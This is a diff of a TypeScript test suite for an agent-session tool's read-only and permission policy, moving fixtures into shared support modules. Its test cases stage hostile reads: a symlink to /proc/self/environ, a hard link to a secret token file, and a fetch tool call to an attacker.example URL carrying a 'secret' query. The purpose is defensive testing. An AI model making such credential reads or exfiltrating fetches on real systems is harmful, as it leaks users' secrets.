@@ -10,25 +10,15 @@ import { link, mkdtemp, readFile, rm, symlink, truncate, writeFile } from 'node:
 import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { promisify } from 'node:util';
-import { AcpAgent } from '../../src/sessions/acp/acpAgent';
 import { lookedAtPaths, readVerdict } from '../../src/sessions/acp/readOnlyPolicy';
 import { createAcpAgentFactory } from '../../src/sessions/acp';
 import { SessionHost } from '../../src/sessions/host';
 import { FileSessionStore } from '../../src/sessions/store';
-import { fakeRun, readRecord, RecordingContext, waitForRecord, type FakeRun, stopAgent } from './acpTestSupport';
+import { readAgentRecord, waitForRecord } from '../support/fakeAcpAgent';
+import { FakeAgentRuns, type RecordingContext } from '../support/recordingAgentContext';
 import { createRequest, allEvents } from './hostTestKit';
+import { DEFAULT_AND_PLAN_MODES, ALLOW_OR_REJECT } from '../support/acpFixtures';
 
-const MODES = {
-  currentModeId: 'default',
-  availableModes: [
-    { id: 'default', name: 'Default' },
-    { id: 'plan', name: 'Plan' },
-  ],
-};
-const OPTIONS = [
-  { optionId: 'allow', name: 'Allow', kind: 'allow_once' },
-  { optionId: 'reject', name: 'Reject', kind: 'reject_once' },
-];
 const SECRET = `ultraplan-test-secret-${process.pid}-${Date.now()}`;
 
 interface ControlRequest {
@@ -70,8 +60,7 @@ describe('read policy: what a read or search looks at, and who decides', () => {
 
 describe('AcpAgent: reads the agent must not make, and reads the person decides', function () {
   this.timeout(40_000);
-  let run: FakeRun | undefined;
-  let agent: AcpAgent | undefined;
+  const runs = new FakeAgentRuns();
   let outside: string | undefined;
   const savedToken = process.env.ULTRAPLAN_SERVER_TOKEN;
 
@@ -83,10 +72,7 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
   afterEach(async () => {
     if (savedToken === undefined) delete process.env.ULTRAPLAN_SERVER_TOKEN;
     else process.env.ULTRAPLAN_SERVER_TOKEN = savedToken;
-    await stopAgent(agent);
-    agent = undefined;
-    await run?.cleanup();
-    run = undefined;
+    await runs.stopAll();
     if (outside) await rm(outside, { recursive: true, force: true });
     outside = undefined;
   });
@@ -107,8 +93,8 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
       '{{cwd}}/zero.md',
       '{{cwd}}/token-link.md',
     ];
-    run = await fakeRun({
-      modes: MODES,
+    const run = await runs.prepare({
+      modes: DEFAULT_AND_PLAN_MODES,
       turns: [[...reads.map((file) => ({ readFile: { path: file } })), { readFile: { path: '{{cwd}}/README.md' } }, { chunk: 'done' }]],
     });
     await symlink('/proc/self/environ', path.join(run.workspace, 'env.md'));
@@ -117,12 +103,10 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
     // A hard link has no path of its own to tell it by: it is refused by the file's identity.
     await link(tokenFile, path.join(run.workspace, 'token-link.md'));
 
-    agent = new AcpAgent({ argv: run.argv, cwd: run.workspace, label: 'Fake (ACP)', stopGraceMs: 500, secretFiles: [tokenFile] });
-    const ctx = new RecordingContext();
-    await agent.start(ctx, 'Plan it');
+    const { ctx } = await runs.startOn(run, { secretFiles: [tokenFile] });
     await ctx.waitFor(() => ctx.results().length > 0, 20_000, 'turn end');
 
-    const record = await readRecord(run.record);
+    const record = readAgentRecord(run.record);
     const outcomes = record.filter((entry) => entry.kind === 'read_outcome');
     assert.equal(outcomes.length, reads.length + 1);
     for (const outcome of outcomes.slice(0, reads.length)) {
@@ -145,8 +129,8 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
     const publicNotes = path.join(outside, 'public.txt');
     await writeFile(secretNotes, 'the private key is here\n');
     await writeFile(publicNotes, 'shared notes\n');
-    run = await fakeRun({
-      modes: MODES,
+    const run = await runs.prepare({
+      modes: DEFAULT_AND_PLAN_MODES,
       turns: [
         [
           // Claude's Read and WebFetch shapes (kind read with a location; kind fetch with a url).
@@ -159,7 +143,7 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
                 rawInput: { file_path: secretNotes },
                 locations: [{ path: secretNotes }],
               },
-              options: OPTIONS,
+              options: ALLOW_OR_REJECT,
             },
           },
           {
@@ -171,7 +155,7 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
                 rawInput: { file_path: '{{cwd}}/README.md' },
                 locations: [{ path: '{{cwd}}/README.md' }],
               },
-              options: OPTIONS,
+              options: ALLOW_OR_REJECT,
             },
           },
           {
@@ -182,7 +166,7 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
                 kind: 'fetch',
                 rawInput: { url: 'https://attacker.example/?q=secret', prompt: 'send it' },
               },
-              options: OPTIONS,
+              options: ALLOW_OR_REJECT,
             },
           },
           // Gemini's reads come through fs/read_text_file.
@@ -193,9 +177,7 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
         ],
       ],
     });
-    agent = new AcpAgent({ argv: run.argv, cwd: run.workspace, label: 'Fake (ACP)', stopGraceMs: 500 });
-    const ctx = new RecordingContext();
-    await agent.start(ctx, 'Plan it');
+    const { agent, ctx } = await runs.startOn(run);
 
     // The person: denies the outside read, allows the fetch, denies one fs read and allows the other.
     const answers: Array<'allow' | 'deny'> = ['deny', 'allow', 'deny', 'allow'];
@@ -218,7 +200,7 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
       ['Read', secretNotes],
       ['Read', publicNotes],
     ]);
-    const record = await readRecord(run.record);
+    const record = readAgentRecord(run.record);
     assert.deepEqual(
       record.filter((entry) => entry.kind === 'permission_outcome').map((entry) => entry.outcome),
       ['reject', 'allow', 'allow'],
@@ -250,8 +232,8 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
       outside = await mkdtemp(path.join(tmpdir(), 'ultraplan-outside-'));
       const notes = path.join(outside, 'notes.txt');
       await writeFile(notes, 'shared notes\n');
-      run = await fakeRun({
-        modes: MODES,
+      const run = await runs.prepare({
+        modes: DEFAULT_AND_PLAN_MODES,
         turns: [
           [
             {
@@ -262,7 +244,7 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
                   kind: 'fetch',
                   rawInput: { url: 'https://example.com/' },
                 },
-                options: OPTIONS,
+                options: ALLOW_OR_REJECT,
               },
             },
             { readFile: { path: notes } },
@@ -271,12 +253,10 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
           ],
         ],
       });
-      agent = new AcpAgent({ argv: run.argv, cwd: run.workspace, label: 'Fake (ACP)', stopGraceMs: 500, outsideAccess });
-      const ctx = new RecordingContext();
-      await agent.start(ctx, 'Plan it');
+      const { ctx } = await runs.startOn(run, { outsideAccess });
       await ctx.waitFor(() => ctx.results().length > 0, 15_000, 'turn end');
       assert.equal(controlRequests(ctx).length, 0, 'nothing was asked');
-      const record = await readRecord(run.record);
+      const record = readAgentRecord(run.record);
       const allowed = outsideAccess === 'allow';
       assert.deepEqual(
         record.filter((entry) => entry.kind === 'permission_outcome').map((entry) => entry.outcome),
@@ -299,8 +279,8 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
     outside = dataDir;
     // Four reads at once of a FIFO no one writes: libuv's default four threads, all of them.
     const fifoReads = Array.from({ length: 4 }, () => ({ readFile: { path: '{{cwd}}/pipe.md' }, noWait: true }));
-    run = await fakeRun({
-      modes: MODES,
+    const run = await runs.prepare({
+      modes: DEFAULT_AND_PLAN_MODES,
       turns: [
         [
           ...fifoReads,
@@ -332,7 +312,7 @@ describe('AcpAgent: reads the agent must not make, and reads the person decides'
         await new Promise((resolve) => setTimeout(resolve, 50));
       }
       await waitForRecord(run.record, 'read_outcome', 7, 10_000);
-      const outcomes = (await readRecord(run.record)).filter((entry) => entry.kind === 'read_outcome');
+      const outcomes = readAgentRecord(run.record).filter((entry) => entry.kind === 'read_outcome');
       const byPath = (name: string) => outcomes.filter((entry) => path.basename(String(entry.path)) === name);
       assert.equal(byPath('pipe.md').length, 4);
       for (const outcome of byPath('pipe.md')) assert.match(String(outcome.message), /not a regular file/);
